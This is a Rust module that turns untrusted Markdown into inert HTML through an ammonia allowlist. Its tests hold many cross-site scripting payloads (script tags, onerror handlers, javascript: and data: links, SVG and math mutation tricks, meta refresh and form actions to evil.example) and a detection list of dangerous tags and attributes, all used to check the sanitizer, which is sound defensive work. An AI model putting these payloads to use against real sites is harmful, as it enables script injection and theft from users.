//! Markdown of strangers as HTML that does nothing: rendered by the Markdown parser's own writer, then reduced to an allowlist.
//!
//! What remains has no scripts, styles, classes, ids, forms or frames, and loads nothing: an image becomes a link to it.

use std::collections::{HashMap, HashSet};

use ammonia::{Builder, UrlRelative, UrlRelativeEvaluate};
use maud::PreEscaped;
use pulldown_cmark::{Event, LinkType, Parser, Tag, TagEnd, html};
use url::Url;

use crate::document;
use crate::render::{page, safe};

/// What may stand in a description.
const TAGS: [&str; 46] = [
    "a",
    "abbr",
    "b",
    "blockquote",
    "br",
    "code",
    "dd",
    "del",
    "details",
    "div",
    "dl",
    "dt",
    "em",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "i",
    "ins",
    "kbd",
    "li",
    "mark",
    "ol",
    "p",
    "pre",
    "q",
    "s",
    "samp",
    "small",
    "strong",
    "sub",
    "summary",
    "sup",
    "table",
    "tbody",
    "td",
    "tfoot",
    "th",
    "thead",
    "tr",
    "u",
    "ul",
    "var",
];

/// The elements of a page have the first two levels of headings for themselves.
const HEADINGS: [(&str, &str); 5] = [("h5>", "h6>"), ("h4>", "h6>"), ("h3>", "h5>"), ("h2>", "h4>"), ("h1>", "h3>")];

/// `markdown` as harmless HTML. Relative links are taken as they stand on the page at `base`; without one they lead nowhere and
/// become text.
pub(super) fn html(markdown: &str, base: Option<&str>, with_addresses: bool) -> PreEscaped<String> {
    let markdown = safe::text(markdown);
    let markdown = page::level(&markdown);
    let mut rendered = String::with_capacity(markdown.len() * 2);
    html::push_html(&mut rendered, events(Parser::new_ext(&markdown, document::options())).into_iter());
    if depth(&rendered) > DEEPEST {
        return maud::html! { pre { (markdown) } };
    }
    let mut cleaned = cleaner(base, with_addresses).clean(&rendered).to_string();
    // No attribute holds a `<`, and text is escaped: these are tags.
    for (written, shown) in HEADINGS {
        cleaned =
            cleaned.replace(&format!("<{written}"), &format!("<{shown}")).replace(&format!("</{written}"), &format!("</{shown}"));
    }
    // A character reference may have brought what was taken away above.
    PreEscaped(safe::text(&cleaned).into_owned())
}

/// Elements that are open at once. A page that nests deeper is shown as it was written: browsers and the cleaner take
/// their time with each level.
const DEEPEST: usize = 500;

/// The most elements of some HTML that are open at once, or more.
fn depth(html: &str) -> usize {
    let (mut depth, mut deepest) = (0_usize, 0);
    for tag in html.split('<').skip(1) {
        let name = &tag[..tag.find(|c: char| !c.is_ascii_alphanumeric()).unwrap_or(tag.len())];
        if tag.starts_with('/') {
            depth = depth.saturating_sub(1);
        } else if !name.is_empty() && !VOID.iter().any(|void| name.eq_ignore_ascii_case(void)) {
            depth += 1;
            deepest = deepest.max(depth);
        }
    }
    deepest
}

/// The elements that are never open.
const VOID: [&str; 6] = ["br", "hr", "img", "input", "wbr", "col"];

fn cleaner(base: Option<&str>, with_addresses: bool) -> Builder<'static> {
    let mut schemes = HashSet::from(["http", "https"]);
    if with_addresses {
        schemes.insert("mailto");
    }
    let relative = match base.and_then(|base| Url::parse(base).ok()).filter(|base| matches!(base.scheme(), "http" | "https")) {
        Some(base) => UrlRelative::Custom(Box::new(Resolver(base))),
        None => UrlRelative::Deny,
    };
    let mut cleaner = Builder::empty();
    cleaner
        .tags(HashSet::from(TAGS))
        .clean_content_tags(HashSet::from(["script", "style", "template", "noscript", "title", "textarea", "iframe", "object"]))
        .tag_attributes(HashMap::from([
            ("a", HashSet::from(["href"])),
            ("ol", HashSet::from(["start"])),
            ("td", HashSet::from(["colspan", "rowspan"])),
            ("th", HashSet::from(["colspan", "rowspan"])),
        ]))
        .url_schemes(schemes)
        .url_relative(relative)
        .link_rel(Some("nofollow noopener noreferrer"));
    cleaner
}

/// Resolves relative links. One that leads to anything but the web is none.
struct Resolver(Url);

impl UrlRelativeEvaluate<'_> for Resolver {
    fn evaluate<'a>(&self, url: &'a str) -> Option<std::borrow::Cow<'a, str>> {
        let resolved = self.0.join(url).ok()?;
        matches!(resolved.scheme(), "http" | "https").then(|| String::from(resolved).into())
    }
}

/// The events of Markdown without what a site does not show: images become links to them, boxes of task lists characters.
fn events(parser: Parser<'_>) -> Vec<Event<'_>> {
    let mut events = Vec::new();
    // Links and images that are open: whether each has become a link, and where its text begins.
    let mut open: Vec<(bool, usize)> = Vec::new();
    for event in parser {
        match event {
            Event::Start(Tag::Link { ref dest_url, .. } | Tag::Image { ref dest_url, .. }) => {
                // Links have no links in them.
                let is_link = !dest_url.trim().is_empty() && !open.iter().any(|(is_link, _)| *is_link);
                // `<ada@example.org>` has no scheme of its own.
                let link_type = if let Event::Start(Tag::Link { link_type, .. }) = event { link_type } else { LinkType::Inline };
                let link = Event::Start(Tag::Link { link_type, dest_url: dest_url.clone(), title: "".into(), id: "".into() });
                events.extend(is_link.then_some(link));
                open.push((is_link, events.len()));
            }
            Event::End(TagEnd::Link | TagEnd::Image) => {
                let Some((is_link, start)) = open.pop() else { continue };
                if events.len() == start && matches!(event, Event::End(TagEnd::Image)) {
                    events.push(Event::Text("image".into()));
                }
                events.extend(is_link.then_some(Event::End(TagEnd::Link)));
            }
            Event::TaskListMarker(done) => events.push(Event::Text(if done { "☑ " } else { "☐ " }.into())),
            event => events.push(event),
        }
    }
    events
}

#[cfg(test)]
mod tests {
    use super::*;

    fn shown(markdown: &str) -> String {
        html(markdown, None, false).0
    }

    #[test]
    fn markdown_is_shown() {
        for (markdown, expected) in [
            ("# One\n\n## *Two*\n\n##### Five", "<h3>One</h3>\n<h4><em>Two</em></h4>\n<h6>Five</h6>\n"),
            ("- [x] done\n- [ ] open", "<ul>\n<li>☑ done</li>\n<li>☐ open</li>\n</ul>\n"),
            ("text\n  - one", "<p>text</p>\n<ul>\n<li>one</li>\n</ul>\n"),
            ("3. a\n4. b", "<ol start=\"3\">\n<li>a</li>\n<li>b</li>\n</ol>\n"),
            ("|a|\n|-|\n|b|", "<table><thead><tr><th>a</th></tr></thead><tbody>\n<tr><td>b</td></tr>\n</tbody></table>\n"),
            ("<details><summary>More</summary>text</details>", "<details><summary>More</summary>text</details>"),
            ("1 < 2 & `<b>`", "<p>1 &lt; 2 &amp; <code>&lt;b&gt;</code></p>\n"),
        ] {
            assert_eq!(shown(markdown), expected, "{markdown}");
        }
    }

    #[test]
    fn links_lead_to_the_web_and_nowhere_else() {
        let link = |url: &str, text: &str| format!("<p><a href=\"{url}\" rel=\"nofollow noopener noreferrer\">{text}</a></p>\n");
        let base = Some("https://example.org/ideas/2026.md");
        for (markdown, base, expected) in [
            ("[a](https://example.org/?x=1&y=2)", None, link("https://example.org/?x=1&amp;y=2", "a")),
            ("[a](../x.md)", base, link("https://example.org/x.md", "a")),
            ("[a](#b)", base, link("https://example.org/ideas/2026.md#b", "a")),
            ("[a](//evil.example/x)", base, link("https://evil.example/x", "a")),
            ("![a chart](c.png)", base, link("https://example.org/ideas/c.png", "a chart")),
            ("![](https://example.org/c.png)", None, link("https://example.org/c.png", "image")),
            ("[![logo](l.png)](https://example.org)", None, link("https://example.org", "logo")),
        ] {
            assert_eq!(html(markdown, base, false).0, expected, "{markdown}");
        }
        for markdown in [
            "[a](../x.md)",
            "[a]()",
            "[a](javascript:alert(1))",
            "[a](JaVaScRiPt&colon;alert(1))",
            "[a](java&#10;script:alert(1))",
            "[a](\u{1}javascript:alert(1))",
            "[a](data:text/html,<script>alert(1)</script>)",
            "[a](vbscript:x)",
            "[a](file:///etc/passwd)",
            "[a](mailto:x)",
            "[a](blob:https://example.org/x)",
            "<a href=javascript:alert(1)>a</a>",
            "<a href=\" &#14; javascript:alert(1)\" ping=//evil.example target=_blank download>a</a>",
        ] {
            for base in [None, base] {
                let text = html(markdown, base, false).0;
                let leads = text.split("href=\"").skip(1).all(|url| url.starts_with("https://example.org/"));
                assert!(leads && !text.contains("ping") && !text.contains("download"), "{markdown}: {text}");
            }
        }
        assert!(html("<ada@example.org>", None, true).0.contains("href=\"mailto:ada@example.org\""));
    }

    /// What no description may bring onto a page: as tags, attributes, or characters that are not seen.
    fn is_active(html: &str) -> bool {
        let html = html.to_ascii_lowercase();
        let tags = [
            "<script",
            "<style",
            "<svg",
            "<math",
            "<iframe",
            "<object",
            "<embed",
            "<form",
            "<input",
            "<button",
            "<meta",
            "<link",
            "<base",
            "<img",
            "<video",
            "<audio",
            "<template",
            "<noscript",
            "<textarea",
            "<title",
            "<body",
            "<html",
            "<main",
            "<!--",
        ];
        // Attributes stand in tags; text about `onerror=` is text.
        let mut inside = html.split('<').skip(1).filter_map(|tag| tag.split_once('>')).map(|(tag, _)| tag);
        let attribute = |tag: &str| {
            [" on", " style=", " class=", " id=", " src=", " srcdoc=", " name=", "xlink"].iter().any(|bad| tag.contains(bad))
        };
        tags.iter().any(|tag| html.contains(tag)) || inside.any(attribute) || html.contains(|c| safe::is_hidden(c) && c != '\n')
    }

    #[test]
    fn nothing_a_page_says_is_active() {
        for markdown in [
            "<script>alert(1)</script>",
            "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
            "<img src=x onerror=alert(1)>",
            "<p onclick=alert(1) style='background:url(//evil.example)' class=skip id=q>text</p>",
            "<style>*{display:none}</style>",
            "<svg><script>alert(1)</script><a xlink:href='javascript:alert(1)'>x</a></svg>",
            "<svg onload=alert(1)>",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
            "<meta http-equiv=refresh content='0;url=//evil.example'>",
            "<base href=//evil.example><link rel=stylesheet href=//evil.example>",
            "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x></object><embed src=x>",
            "<form action=//evil.example><input name=q autofocus onfocus=alert(1)><button>x</button></form>",
            "</div></main></body></html><script>alert(1)</script>",
            "<!-- comment --><![CDATA[<script>alert(1)</script>]]><?php x ?>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<template><script>alert(1)</script></template><textarea><script>",
            "# Heading {#id .class onclick=alert(1) style=x}",
            "```js\" onclick=alert(1)\nalert(1)\n```",
            "<a href='https://example.org' onmouseover=alert(1)>a</a>",
            "text\u{202e}evil\u{2066} &#x202e;evil &#8294;x \u{200b}\u{feff}&#xe0041; a\u{0}b\u{1b}[2J",
            "It\u{e2}\u{80}\u{99}s moji\u{c3}\u{a9}bake \u{fffd}",
        ] {
            let text = shown(markdown);
            assert!(!is_active(&text), "{markdown}: {text}");
        }
    }

    #[test]
    fn what_is_active_would_be_seen() {
        for html in
            ["<p><SCRIPT>", "<p onclick=x>", "<img>", "<a style=\"x\">", "<p>a\u{202e}b", "<svg>", "<p id=\"q\">", "<!-- -->"]
        {
            assert!(is_active(html), "{html}");
        }
        assert!(!is_active("<p>onclick= &lt;script&gt; id=1</p>\n"));
    }

    #[test]
    fn deep_nesting_ends() {
        for markdown in [">", "- ", "<div>", "[", "<b><p>", "![", "</p><p>", "a<br>"].map(|part| part.repeat(10_000)) {
            assert!(!is_active(&shown(&markdown)));
        }
    }
}
